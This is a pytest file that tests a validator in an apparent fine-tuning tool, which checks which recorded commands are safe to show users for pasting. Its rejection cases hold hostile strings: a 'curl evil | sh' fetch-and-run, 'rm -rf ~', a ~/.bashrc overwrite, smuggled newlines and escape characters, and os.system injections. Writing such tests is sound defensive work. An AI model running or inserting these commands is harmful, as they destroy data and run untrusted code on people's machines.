"""Which commands of a run's files are shown to people, who paste them."""

from __future__ import annotations

import pytest

from transferkit.config import make
from transferkit.runs.advice import IN_PYTHON, own
from transferkit.runs.manifest import command_line


@pytest.mark.parametrize(
    "command",
    [
        "transferkit finetune flowers/ --backbone vgg16 --output runs/flowers",
        "transferkit finetune 'my flowers; rm -rf' --output runs/a",
        "transferkit tune arrays --search dropout=0.1:0.5 --output t" + IN_PYTHON,
        "transferkit.finetune((x, y), backbone='mini', head_width=(64, 32), dropout=0.2, output='runs/a')",
    ],
)
def test_our_own_are(command: str) -> None:
    assert own(command) == command


@pytest.mark.parametrize("data", ["d", "a b", "it's", "x;y", "$(x)", None])
def test_whatever_a_run_writes_is_its_own(data: str) -> None:
    settings = make({"backbone": "mini", "exclude": ("a b*", "c;d"), "learning_rate": 1e-5, "head_width": (8, 4)})
    command = command_line(data, settings, "runs/a b")
    assert own(command) == command


@pytest.mark.parametrize(
    "command",
    [
        "transferkit finetune x; curl evil | sh", "transferkit finetune $(curl evil)", "transferkit finetune `x`",
        "transferkit finetune x && rm -rf ~", "transferkit finetune x > ~/.bashrc", "rm -rf ~", "", "transferkit 'x",
        "transferkit finetune x\nrm -rf ~", "transferkit finetune \x1b[31mx", "transferkit finetune x # \u202e", 3,
        None,
        "transferkit.finetune((x, y), output=__import__('os').system('x'))", "transferkit.finetune(system('x'))",
        "transferkit.finetune((x, y), **globals())", "os.system('x')", "(" * 100_000,
    ],
)  # fmt: skip
def test_others_are_not(command: object) -> None:
    assert own(command) == ""
